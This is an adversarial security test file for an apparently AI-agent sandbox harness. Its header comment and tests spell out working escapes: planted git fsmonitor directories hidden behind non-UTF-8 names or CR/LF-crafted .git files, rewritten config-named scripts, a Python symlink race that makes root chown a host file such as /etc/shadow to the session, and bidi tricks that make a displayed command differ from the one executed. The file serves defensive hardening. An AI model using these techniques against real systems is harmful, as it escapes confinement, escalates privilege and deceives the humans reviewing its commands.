/**
 * Adversary round 15: attacks on the round-14 fixes (the git audit's walk in a worker thread, its
 * split git dirs and quarantine; display.ts's rule for a number after a right-to-left letter), on
 * the code of 2459236, as root (the worker's intended setting), and on git-guard.ts's reading of the
 * person's config. Each test asserts the safe behaviour; OPEN skips them while a fix is missing.
 * Run un-skipped against 2459236: all 11 failed (audit: 3, guard: 3, display: 4, root's chown: 1).
 * All run since their fixes: display.ts counts a modifier letter as neutral; git-guard.ts binds
 * what any word of any config value names; git-audit.ts and git-walk.ts act on descriptors, read
 * names as bytes and `.git` files as git does.
 *
 * Kind 6 (the person's git, on the host, obeys what the session wrote), three ways past the audit,
 * each observed in a real sandboxed session (the unit harness's, session uid agent-jobs, in a
 * root-owned workspace), then the person's git on the host, as root, running the planted
 * fsmonitor (the marker file written). As in round 14 the git dir is a FOLDER OF THE PERSON'S, so
 * that git's ownership check passes.
 * - A folder whose name is not UTF-8. Steps: rename the person's `src/` to `$'\xff'` (one byte
 *   0xff, a legal name), make the person's `docs/` a copy of `.git` with `core.fsmonitor` naming a
 *   planted script and `core.worktree` the workspace, move it to `$'\xff'/.git`, and add a gitlink
 *   `$'\xff'` to the root's index (`git update-index --add --cacheinfo 160000,<HEAD>,$'\xff'`).
 *   Observed: the command's result has no audit note, and nothing is moved at close; the
 *   person's plain `git status` at the workspace's root recurses into the populated "submodule"
 *   and runs the plant (so does any git run in that folder). Why: the walk (git-walk.ts, `GIT_WALK_SOURCE`)
 *   takes names as JavaScript strings: Node decodes `\xff` to U+FFFD, the path built from it names
 *   no file, `each` cannot open the folder (or `add` cannot lstat the `.git` in it) and returns
 *   false, and a folder it cannot read is skipped silently, not reported as unchecked. Every byte
 *   string that is not valid UTF-8 (a lone continuation byte, an overlong form, a surrogate's
 *   encoding) hides a whole subtree the same way. Fix (whole kind): walk by bytes (`encoding:
 *   'buffer'` names, or `openat` from the parent's descriptor, never a path rebuilt from a decoded
 *   name), and count every folder the walk cannot open or read as a finding ("NOT checked"), never
 *   as a clean one.
 * - A `.git` file read otherwise than git reads it. Steps: a folder of the person's inside `.git`
 *   (`.git/refs/tags`, root's; moving one in from outside `.git`, a mount point in the sandbox, is a
 *   copy owned by the session) moved to `.git/e/.git/worktrees/w` and filled as a git dir whose
 *   `core.fsmonitor` is the plant; a linked-worktree admin folder `.git/worktrees/w` as the audit
 *   wants one (`commondir` `../..`, `gitdir` inside the workspace); a symlink
 *   `src/<CR><LF>gitdir: ..` -> `../.git/e`; and the person's `src/main.c` rewritten in place (so
 *   still root's) to `gitdir: <CR><LF>gitdir: ../.git/worktrees/w` and renamed `src/.git`.
 *   Observed: no audit note; the person's `git status` in `src/` runs the plant. Why:
 *   `linkedWorktreeFile` reads the file with `/^gitdir: (.+)$/m`, which cannot match the first line
 *   (nothing before the CR) and matches the second, so it takes `src/.git` for a worktree of the
 *   repository's own and leaves it; git (setup.c `read_gitfile_gently`) takes everything after the
 *   leading `gitdir: ` but trailing CR/LF as ONE path, `src/<CR><LF>gitdir: ../.git/worktrees/w`,
 *   which the symlink leads to `.git/e/.git/worktrees/w`, inside `.git`, where the walk never looks.
 *   The same with `commondir` (second test): `strayAdmin` reads its first line, git
 *   (`get_common_dir_noenv`) the whole file but trailing CR/LF. Steps: an admin folder
 *   `.git/worktrees/w` (the person's `.git/refs/tags`, moved) whose `commondir` is `../..<LF>X`
 *   and `gitdir` `src/.git`; a folder `.git/worktrees/..<LF>X` with `commondir` `../..` and a
 *   `gitdir` inside the workspace (so the audit keeps it too), HEAD, objects, refs and a `config`
 *   whose `core.fsmonitor` is the plant; the person's `src/main.c` rewritten to
 *   `gitdir: <ws>/.git/worktrees/w` and renamed `src/.git`. Observed: no audit note; the person's
 *   `git status` in `src/` runs the plant: git's common dir is `.git/worktrees/..<LF>X`, whose
 *   `config` nothing checks (the audit looks at an admin folder's `config.worktree` only).
 *   Fix (whole kind): read a `.git` file, `commondir` and `gitdir` exactly as git does (`gitdir: `
 *   at byte 0; the path is the rest up to the first NUL, trailing CR and LF stripped; relative to
 *   the file's folder), keep a `.git` file only when that path, resolved, is an admin folder whose
 *   common dir, read the same way, is the repository's; or keep no `.git` file the session made at
 *   all; and treat a git dir anywhere under `.git` but the known ones as one in the working tree.
 *
 * Kind 6/7 (the worker, as root, acts on a path the session can swap; the worst of this round):
 * `Quarantine.rewritePackedRefs` drops a new packed replace ref by writing
 * `.git/packed-refs.<tag>.tmp` (`O_EXCL`, safe) and then `fs.chownSync(tmp, st.uid, st.gid)` BY
 * NAME, which follows a symlink, with `st` the owner of `packed-refs`. `.git` is the session's to
 * write, and the audit after a command runs while the command's background jobs live. Steps: a job
 * (python3) makes a symlink `.git/l` to a root-only host file (here `<ws>-victim`, 0600, outside the
 * workspace and the sandbox's view) and polls `.git` for `packed-refs.*.tmp`; the next command
 * writes a new `.git/packed-refs` (so the session's own file, uid agent-jobs) of 48 MB with one
 * `refs/replace/` line; the audit after it writes the temporary file (tens of ms), the job
 * `os.replace`s the symlink over its name, and root's chown follows it. Observed: the host file is
 * owned by agent-jobs (uid 999) after the command, in 3 of 4 single tries and in every run of the
 * test (up to 4 tries). With `/etc/shadow` (visible, read-only, in the shell's sandbox, root:shadow
 * 0640) as the target the session could then read it; `/etc/cron.d` or `/usr/local/bin` given to
 * the workspace's owner (the session uid when the owner is not root) would let any program of the
 * owner's on the host write what root runs (inferred, not run). Fix (whole kind): no path-based
 * call of the worker's on anything in the workspace: `fchown`/`fchmod` on the descriptor opened
 * with `O_EXCL` (or `O_TMPFILE` and `linkat`), `renameat` relative to a directory descriptor, or
 * the rewrite done as the file's owner or confined as `src/checkpoint/confine.ts` confines root's
 * git; and a search of every root `chownSync`/`mkdirSync`/`writeFileSync` by path that a session
 * can reach (git-guard.ts `makeEmpty` and the `core.hooksPath` folder, made by path at start, are
 * the same shape: read, not tried, they run with no process of the session alive but a sibling's).
 *
 * Kind 6, the guard's reading of the person's config (git-guard.ts `PROGRAM_KEYS`, round 13's fix):
 * a program the person's repository config names in the workspace is bound read-only only when its
 * key is on a hand-made list and the word is a path as it stands. Steps: the person's config has
 * `alias.fmt = !./scripts/fmt.sh`, `credential.helper = !scripts/cred.sh` or
 * `trailer.sign.cmd = scripts/tr.sh` (each file the person's, committed or not, 0755); the session
 * rewrites the file in place (`printf ... > scripts/fmt.sh`: still root's and executable).
 * Observed: each write succeeds (`alias.ok = !sh scripts/ok.sh` is refused, read-only, the control),
 * and the person's `git fmt`, `git credential fill` (what `git push`/`fetch` over https run) and
 * `git commit --trailer "sign: me"` on the host run the plant. Why: the value is split at blanks and
 * shell punctuation but not at the `!` that starts a shell command (`!./scripts/fmt.sh` is no file),
 * and keys that run programs are missing from the list: `trailer.*.cmd`/`.command`,
 * `interactive.diffFilter`, `core.alternateRefsCommand`, `{diff,merge}tool.*.path`,
 * `gpg.ssh.defaultKeyCommand`, `sendemail.*Cmd`/`smtpServer`, `remote.*.uploadpack`/`receivepack`,
 * `submodule.*.update`, `browser.*`/`man.*`/`guitool.*` `.cmd`/`.path`, `web.browser` (git-config(1);
 * writes observed for `interactive.diffFilter`, `core.alternateRefsCommand`, `mergetool.*.path` too,
 * runs not tried: `git add -p` filters only a coloured diff, in a terminal). Fix (whole kind): bind
 * every existing workspace file that any word of any config value names (a leading `!` dropped, a
 * superset, not a list of keys), or refuse to open a session on a repository whose config names
 * programs in the workspace that are not bound. Fixed (git-guard.ts `valueFiles`: every value of
 * every key, the first way; its describe runs, `OPEN_CONFIG_PROGRAMS`), with the attacker's
 * variants added: `! "./my scripts/chk.sh"`, `!cd tools && ./lint.sh`, an expansion before the path
 * (each of the three ran the plant on the host before the fix, observed).
 *
 * Kind 5 (what the human reads is not what runs), the round-14 rule for a number after a
 * right-to-left letter: `markReorderedRightToLeft` forgets the right-to-left letter at any `\p{L}`,
 * but 26 letters are neutral to the bidirectional algorithm (Bidi_Class ON: the modifier letters
 * U+02B9-02BA, U+02C6-02CF, U+02EC, U+0374, U+2E2F, U+A67F, U+A717-A71F, U+A788), and the 18 of
 * them that are no look-alike of a shell character are shown verbatim (`ˇ ˉ ˌ ˍ ˎ ˏ ˬ ⸯ ꙿ ꜗ ꜘ ꜙ ꜚ
 * ꜛ ꜜ ꜞ ꜟ ꞈ`; `ʹ ʺ ˆ ˈ ˊ ˋ ʹ ꜝ` are flagged, and escaped they are ASCII, drawn left to right).
 * So `sort א ˌ> 2024.csv` is shown as it is and drawn `sort 2024 <ˌ א.csv` (a read of 2024; bash writes `2024.csv`), `cp גיבוי ˍ2024` as
 * `cp 2024ˍ גיבוי`, `rm -rf אꞈ/1` as `rm -rf 1/ꞈא`, `mv נתונים ˎ ˎ1` as `mv 1ˎ ˎ נתונים`.
 * Observed: `displayCommand` gives each back unchanged with no warning; fribidi 1.0.8's
 * `fribidi_log2vis` (libfribidi0, LTR paragraph, through Python's ctypes) gives those visual
 * orders (not observed in a browser). Fix (whole kind): decide by Bidi_Class, not by general
 * category: forget the right-to-left letter only at a strong left-to-right character (Bidi_Class
 * L), or run the algorithm and compare the visual order with the logical one; or escape every
 * right-to-left letter of a command.
 *
 * Held (tried, not reported):
 * - Kind 6, the quarantine (observed in a session): `mv .git/agent-jobs-quarantine .git/qq` EBUSY
 *   (bound onto itself), a hard link to its `log.jsonl` EXDEV, appending to it EACCES, a file
 *   beside a planted entry's folder RO (the quarantine is read-only in the sandbox); its entries
 *   are named `<session>-<n>` and logged.
 * - Kind 6, a `.git` file whose audit-read and git-read paths differ in other ways: a NUL after the
 *   first path (both read the first line; the audit's path holds the NUL and is moved), `gitdir:`
 *   on a later line only (git refuses the file), a U+2028 or a CR after a non-empty first path (the
 *   audit's regex matches the first line): read, not run.
 * - Kind 6, a person's folder moved into `.git` from the working tree (the git dir would be the
 *   session's: a copy across the `.git` mount point; git's ownership check refuses it, observed).
 * - Kind 6, 10,001 `.git` entries so that the walk stops at `maxFound`: reported as "NOT checked",
 *   documented (the run is not stopped for it).
 * - Kind 5, every code point of Bidi_Class R, AL, EN or AN (Python's unicodedata, Unicode 14) is
 *   inside `isRightToLeft`'s ranges or `\p{N}`, but U+200F (escaped as invisible).
 * - Kind 5, the two-letter skeletons: each of the 2,184 code points of `ascii-lookalikes.ts` in
 *   `git push origin ma?n`, `cat ?x.txt` and `cat x?` is flagged (observed, all 6,552).
 * - Kind 3, the session's memory cgroup with a 64 MiB bound: a job making POSIX timers
 *   (`timer_create` through ctypes) stops at 96,367 (EAGAIN: RLIMIT_SIGPENDING, a per-uid count
 *   already open) with their 36 MiB of slab charged to the cgroup (usage 40 MiB; observed).
 * - Kind 3, the session's memory cgroup: no swap on this machine (so `memory.memsw` is moot);
 *   slirp4netns (root, in the worker's cgroup) holds the `--network` session's connections
 *   outside it: read, not tried (no outside network here).
 * - The `resume` Update (steering.ts, `resume-answers-when-paused-again`): read; a liveness change
 *   whose answer says `paused`, no way found to make a resume or pause do more than asked.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { closeSessions, removeTempDirs, startSession, waitUntil } from '../session/helpers';
import { personsRepo, plant } from './persons-repo';
import { FLAGGED, flaggedEverywhere } from './lookalikes';

/**
 * Every attack below works on 2459236 (see the doc comment); each group is skipped while its fix is
 * missing (true: still open).
 */
const OPEN = { walkBytes: false, dotGitFile: false, rootChown: false };
const open = (still: boolean): typeof test => (still ? test.skip : test);

afterEach(closeSessions);
afterAll(removeTempDirs);

const isRoot = process.getuid?.() === 0;
const dRoot = isRoot ? describe : describe.skip;

/** Runs bash `script` on the host as the person (root) in `cwd` (a name of bytes needs bash's `$'\xff'`); never throws. */
const hostBash = (cwd: string, script: string): void => void spawnSync('bash', ['-c', script], { cwd, stdio: 'pipe' });

/** The person's repository with their folders `src/` (a file in it, committed) and `docs/`. */
function personsRepoWithFolders(): ReturnType<typeof personsRepo> {
  const repo = personsRepo();
  fs.mkdirSync(path.join(repo.ws, 'src'));
  fs.writeFileSync(path.join(repo.ws, 'src', 'main.c'), 'int main;\n');
  fs.mkdirSync(path.join(repo.ws, 'docs'));
  repo.git('add', '-A');
  repo.git('commit', '-qm', 'src');
  return repo;
}

/**
 * Shell text that fills the folder `dir` with a copy of the workspace's git dir whose fsmonitor is a
 * script `fsm` in it leaving `marker`, the work tree the workspace; `final` (shell words, relative to
 * the workspace) is where `dir` will be.
 */
const evilGitDir = (dir: string, final: string, marker: string): string =>
  [
    `cp -r .git/HEAD .git/config .git/objects .git/refs ${dir}/`,
    plant(marker, `${dir}/fsm`),
    `git config --file ${dir}/config core.fsmonitor "$PWD/"${final}/fsm`,
    `git config --file ${dir}/config core.worktree "$PWD"`,
  ].join(' && ');

dRoot('kind 6: a git dir the walk cannot read', () => {
  const t = open(OPEN.walkBytes);
  t(
    "a `.git` in a folder whose name is the byte 0xff (not UTF-8) is moved: the person's `git status` at the root runs nothing",
    async () => {
      const { ws, marker } = personsRepoWithFolders();
      try {
        const s = await startSession({ cwd: ws, workspace: ws });
        const r = await s.run(
          [
            "mv src $'\\xff'",
            evilGitDir('docs', "$'\\xff'/.git", marker),
            "mv docs $'\\xff'/.git",
            // A gitlink, so that the person's `git status` at the root recurses into it.
            "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),$'\\xff'",
            'echo planted',
          ].join(' && '),
        );
        expect(r.output.split('\n')[0]).toBe('planted');
        await s.close();
        hostBash(ws, 'git status --short');
        expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
      } finally {
        fs.rmSync(marker, { force: true });
      }
    },
  );
});

dRoot('kind 6: a `.git` file the audit reads otherwise than git', () => {
  const t = open(OPEN.dotGitFile);
  t(
    "a `.git` file whose first line ends at a carriage return is not kept as a worktree's: the person's `git status` in src/ runs nothing",
    async () => {
      const { ws, marker } = personsRepoWithFolders();
      try {
        const s = await startSession({ cwd: ws, workspace: ws });
        const r = await s.run(
          [
            // A folder of the person's inside .git (root's, for git's ownership check; one moved in from the working tree
            // would be copied across the .git mount point as the session's), made a git dir whose fsmonitor is the plant.
            'mkdir -p .git/e/.git/worktrees && mv .git/refs/tags .git/e/.git/worktrees/w && mkdir .git/refs/tags',
            evilGitDir('.git/e/.git/worktrees/w', '.git/e/.git/worktrees/w', marker),
            // An admin folder as the audit wants a worktree of the repository's own: commondir the repository, gitdir inside.
            'mkdir -p .git/worktrees/w && echo ../.. > .git/worktrees/w/commondir && cp .git/HEAD .git/worktrees/w/',
            'echo "$PWD/src/.git" > .git/worktrees/w/gitdir',
            // Git's path is `src/<CR><LF>gitdir: ..` (this symlink) then `/.git/worktrees/w`: the planted git dir.
            `ln -s ../.git/e "src/$(printf '\\r\\ngitdir: ..')"`,
            // The person's src/main.c (root's) rewritten in place and renamed, so the .git file is theirs.
            "printf 'gitdir: \\r\\ngitdir: ../.git/worktrees/w\\n' > src/main.c && mv src/main.c src/.git",
            'echo planted',
          ].join(' && '),
        );
        expect(r.output.split('\n')[0]).toBe('planted');
        await s.close();
        hostBash(path.join(ws, 'src'), 'git status --short');
        expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
      } finally {
        fs.rmSync(marker, { force: true });
      }
    },
  );
  t("a linked worktree's `commondir` with a second line is not kept: the person's `git status` in src/ runs nothing", async () => {
    const { ws, marker } = personsRepoWithFolders();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(
        [
          // The admin folder: a folder of the person's inside .git (git's ownership check looks at the git dir).
          'mkdir -p .git/worktrees && mv .git/refs/tags .git/worktrees/w && mkdir .git/refs/tags && cp .git/HEAD .git/worktrees/w/',
          'echo "$PWD/src/.git" > .git/worktrees/w/gitdir',
          // The audit reads `../..` (the repository); git reads `../..<LF>X`: the folder `..<LF>X` in .git/worktrees.
          "printf '../..\\nX\\n' > .git/worktrees/w/commondir",
          // That folder: itself an admin folder as the audit wants one, and a common dir whose config runs the plant.
          'C=".git/worktrees/$(printf \'..\\nX\')" && mkdir "$C" && cp -r .git/HEAD .git/config .git/objects .git/refs "$C"/',
          'echo ../.. > "$C/commondir" && echo "$PWD/src/.git" > "$C/gitdir"',
          plant(marker, '.git/e.sh'),
          'git config --file "$C/config" core.fsmonitor "$PWD/.git/e.sh"',
          // The person's src/main.c (root's) rewritten in place and renamed: a worktree's .git file.
          'printf "gitdir: %s\\n" "$PWD/.git/worktrees/w" > src/main.c && mv src/main.c src/.git',
          'echo planted',
        ].join(' && '),
      );
      expect(r.output.split('\n')[0]).toBe('planted');
      await s.close();
      hostBash(path.join(ws, 'src'), 'git status --short');
      expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });
});

dRoot("kind 6: a program the person's config names in the workspace", () => {
  // `run`: what the person's git on the host does with it ('' for a write check only: `git add -p`'s diffFilter wants a
  // terminal, alternateRefsCommand a push to a repository with alternates, a merge tool a conflict).
  const cases: { key: string; value: string; file: string; run: string }[] = [
    { key: 'alias.fmt', value: '!./scripts/fmt.sh', file: 'scripts/fmt.sh', run: 'git fmt' },
    {
      key: 'credential.helper',
      value: '!scripts/cred.sh',
      file: 'scripts/cred.sh',
      run: 'printf "protocol=https\\nhost=example.com\\n\\n" | GIT_TERMINAL_PROMPT=0 git credential fill',
    },
    { key: 'trailer.sign.cmd', value: 'scripts/tr.sh', file: 'scripts/tr.sh', run: 'git commit -qm m --allow-empty --trailer "sign: me"' },
    // The attacker's variants: a quoted path with a blank after `! `, a `cd` first, an expansion before the path.
    { key: 'alias.chk', value: '! "./my scripts/chk.sh" --all', file: '"my scripts/chk.sh"', run: 'git chk' },
    { key: 'alias.lint', value: '!cd tools && ./lint.sh', file: 'tools/lint.sh', run: 'git lint' },
    { key: 'alias.top', value: '!"$(git rev-parse --show-toplevel)"/tools/top.sh', file: 'tools/top.sh', run: 'cd tools && git top' },
    { key: 'interactive.diffFilter', value: 'scripts/df.sh --color', file: 'scripts/df.sh', run: '' },
    { key: 'core.alternateRefsCommand', value: 'scripts/alt.sh', file: 'scripts/alt.sh', run: '' },
    { key: 'mergetool.mine.path', value: 'tools/mt.sh', file: 'tools/mt.sh', run: '' },
  ];
  for (const { key, value, file, run } of cases)
    test(`${key} = ${value}: the session cannot rewrite ${file}${run ? `, which the person's \`${run.split('|').pop()!.trim()}\` runs` : ''}`, async () => {
      const { ws, git, marker } = personsRepo();
      const name = file.replace(/"/g, '');
      try {
        fs.mkdirSync(path.dirname(path.join(ws, name)), { recursive: true });
        fs.writeFileSync(path.join(ws, name), '#!/bin/sh\ncat\n', { mode: 0o755 });
        git('config', key, value);
        git('config', 'user.name', 'p');
        git('config', 'user.email', 'p@example.com');
        const s = await startSession({ cwd: ws, workspace: ws });
        // Rewritten in place: the file stays the person's, and executable.
        const r = await s.run(`printf '#!/bin/sh\\nid -un > ${marker}\\nprintf x\\n' > ${file} && echo planted`);
        await s.close();
        if (run) hostBash(ws, run);
        expect({ written: r.output.startsWith('planted'), ranOnTheHost: fs.existsSync(marker) }).toEqual({
          written: false,
          ranOnTheHost: false,
        });
      } finally {
        fs.rmSync(marker, { force: true });
      }
    });
});

dRoot("kind 6: a program the person's config names, reached by a folder the session replaces", () => {
  // The folder on the way renamed away and a new one made: the person's git reaches the program by its path.
  const cases: {
    what: string;
    setup: (ws: string, git: (...a: string[]) => string) => void;
    attack: (marker: string) => string;
    run: string;
  }[] = [
    {
      what: '`mv scripts s2 && mkdir scripts` (alias.fmt = !./scripts/fmt.sh)',
      setup: (ws, git) => {
        fs.mkdirSync(path.join(ws, 'scripts'));
        fs.writeFileSync(path.join(ws, 'scripts', 'fmt.sh'), '#!/bin/sh\ncat\n', { mode: 0o755 });
        git('config', 'alias.fmt', '!./scripts/fmt.sh');
      },
      attack: (marker) => `mv scripts s2 && mkdir scripts && ${plant(marker, 'scripts/fmt.sh')}`,
      run: 'git fmt',
    },
    {
      what: '`mv tools/ci x && mkdir -p tools/ci` (credential.helper = !tools/ci/cred.sh, two folders deep)',
      setup: (ws, git) => {
        fs.mkdirSync(path.join(ws, 'tools', 'ci'), { recursive: true });
        fs.writeFileSync(path.join(ws, 'tools', 'ci', 'cred.sh'), '#!/bin/sh\ncat\n', { mode: 0o755 });
        git('config', 'credential.helper', '!tools/ci/cred.sh');
      },
      attack: (marker) => `mv tools/ci x && mkdir -p tools/ci && ${plant(marker, 'tools/ci/cred.sh')}`,
      run: 'printf "protocol=https\\nhost=example.com\\n\\n" | GIT_TERMINAL_PROMPT=0 git credential fill',
    },
    {
      what: "`mv .husky h2 && mkdir -p .husky/_` (core.hooksPath = .husky/_, husky 9's)",
      setup: (ws, git) => {
        fs.mkdirSync(path.join(ws, '.husky', '_'), { recursive: true });
        git('config', 'core.hooksPath', '.husky/_');
      },
      attack: (marker) => `mv .husky h2 && mkdir -p .husky/_ && ${plant(marker, '.husky/_/pre-commit')}`,
      run: 'git commit -qm m --allow-empty',
    },
    {
      what: "`mv conf c2 && mkdir conf` (include.path = ../conf/team.conf), a config of the session's in its place",
      setup: (ws, git) => {
        fs.mkdirSync(path.join(ws, 'conf'));
        fs.writeFileSync(path.join(ws, 'conf', 'team.conf'), '[core]\n\tautocrlf = false\n');
        git('config', 'include.path', '../conf/team.conf');
      },
      attack: (marker) =>
        `mv conf c2 && mkdir conf && ${plant(marker, 'fsm.sh')} && printf '[core]\\n\\tfsmonitor = %s/fsm.sh\\n' "$PWD" > conf/team.conf`,
      run: 'git status --short',
    },
  ];
  for (const { what, setup, attack, run } of cases)
    test(`${what}: refused, and the person's \`${run.split('|').pop()!.trim()}\` runs nothing planted`, async () => {
      const { ws, git, marker } = personsRepo();
      try {
        setup(ws, git);
        git('config', 'user.name', 'p');
        git('config', 'user.email', 'p@example.com');
        const s = await startSession({ cwd: ws, workspace: ws });
        const r = await s.run(`${attack(marker)} && echo planted`);
        await s.close();
        hostBash(ws, run);
        expect({ planted: r.output.includes('planted'), ranOnTheHost: fs.existsSync(marker) }).toEqual({
          planted: false,
          ranOnTheHost: false,
        });
      } finally {
        fs.rmSync(marker, { force: true });
      }
    });
});

/**
 * Was open: a program the config names through a symlink in the workspace (`link.sh -> real.sh`):
 * the guard binds the target, but a symlink is no mount point (bwrap's bind follows it), so the
 * session removes the link and puts a program of its own at its name. Held now by the git audit,
 * which puts back a link on the way to what the config names (git-guard.ts names the program as
 * the config does, so git-audit.ts `heldLinks` records the link).
 */
dRoot("kind 6: a program the person's config names through a symlink in the workspace", () => {
  // Was open (the link is no mount point): the guard now names the program as the config does
  // (`./link.sh`, not its target), so the git audit holds the link and puts it back after the command.
  test("`rm link.sh` and a new link.sh: the link is put back, and the person's `git lnk` runs nothing planted", async () => {
    const { ws, git, marker } = personsRepo();
    try {
      fs.writeFileSync(path.join(ws, 'real.sh'), '#!/bin/sh\ncat\n', { mode: 0o755 });
      fs.symlinkSync('real.sh', path.join(ws, 'link.sh'));
      git('config', 'alias.lnk', '!./link.sh');
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(`rm link.sh && ${plant(marker, 'link.sh')} && echo planted`);
      await s.close();
      hostBash(ws, 'git lnk');
      // The session can still plant (the audit is what holds): the result says the link was put back.
      expect({ planted: r.output.includes('planted'), putBack: r.output.includes('put back') }).toEqual({ planted: true, putBack: true });
      expect({ link: fs.readlinkSync(path.join(ws, 'link.sh')), ranOnTheHost: fs.existsSync(marker) }).toEqual({
        link: 'real.sh',
        ranOnTheHost: false,
      });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });
});

describe('kind 5: a right-to-left letter before a number, a bidi-neutral modifier letter between', () => {
  const commands: [string, string][] = [
    ['sort א ˌ> 2024.csv', 'U+02CC, drawn `sort 2024 <ˌ א.csv`'],
    ['cp גיבוי ˍ2024', 'U+02CD, drawn `cp 2024ˍ גיבוי`'],
    ['rm -rf אꞈ/1', 'U+A788, drawn `rm -rf 1/ꞈא`'],
    ['mv נתונים ˎ ˎ1', 'U+02CE, drawn `mv 1ˎ ˎ נתונים`'],
  ];
  for (const [command, what] of commands) {
    test(`${JSON.stringify(command)} (${what}) is not shown verbatim`, () => {
      expect(flaggedEverywhere(command)).toEqual(FLAGGED);
    });
  }
});

/** Python: waits for the audit's `.git/packed-refs.<tag>.tmp` and replaces it, in one rename, by a symlink to `victim`. */
const SWAP_TMP = (victim: string): string => `import os, time
os.symlink(${JSON.stringify(victim)}, '.git/l')
end = time.time() + 60
while time.time() < end:
    for n in os.listdir('.git'):
        if n.startswith('packed-refs.') and n.endswith('.tmp'):
            os.replace('.git/l', '.git/' + n)
            print('swapped', n, flush=True)
            raise SystemExit
print('none', flush=True)
`;

/** Python: writes `.git/packed-refs` anew (the session's file) at about 48 MB, so that the audit's rewrite takes a while, with one new replace ref (argv[1]). */
const BIG_PACKED_REFS = `import sys
h = '1' * 40
with open('.git/packed-refs', 'w') as f:
    f.write('# pack-refs with: peeled fully-peeled sorted \\n')
    f.write(h + ' refs/replace/' + sys.argv[1] * 40 + '\\n')
    for i in range(800000):
        f.write(h + ' refs/tags/t%07d\\n' % i)
print('packed')
`;

dRoot('kind 6/7: root, on the host, chowns through a symlink the session puts in the workspace', () => {
  const t = open(OPEN.rootChown);
  t(
    'a job swapping the packed-refs the audit rewrites for a symlink does not get a root-only host file chowned to the session',
    async () => {
      const { ws } = personsRepo();
      // A root-only file on the host, outside the workspace (and outside the sandbox's view).
      const victim = `${ws}-victim`;
      fs.writeFileSync(victim, 'root only\n', { mode: 0o600 });
      fs.writeFileSync(path.join(ws, 'swap.py'), SWAP_TMP(victim));
      fs.writeFileSync(path.join(ws, 'big.py'), BIG_PACKED_REFS);
      try {
        const s = await startSession({ cwd: ws, workspace: ws, timeoutMs: 120_000 });
        // A race (won 3 times in 4 single tries): up to 4 tries, each with a new replace ref for the audit to drop.
        const swapped: string[] = [];
        for (const digit of ['2', '3', '4', '5']) {
          await s.run(`rm -f .git/l swap.txt; python3 swap.py > swap.txt 2>&1 &`);
          const r = await s.run(`python3 big.py ${digit}`);
          expect(r.output).toContain('refs/replace/');
          const out = path.join(ws, 'swap.txt');
          await waitUntil('the job swapped', () => fs.existsSync(out) && fs.readFileSync(out, 'utf8').includes('\n'), 70_000);
          swapped.push(fs.readFileSync(out, 'utf8').split(' ')[0]!);
          if (fs.statSync(victim).uid !== 0) break;
        }
        expect({ swapped: swapped[0], victimOwner: fs.statSync(victim).uid }).toEqual({ swapped: 'swapped', victimOwner: 0 });
      } finally {
        fs.rmSync(victim, { force: true });
      }
    },
    300_000,
  );
});
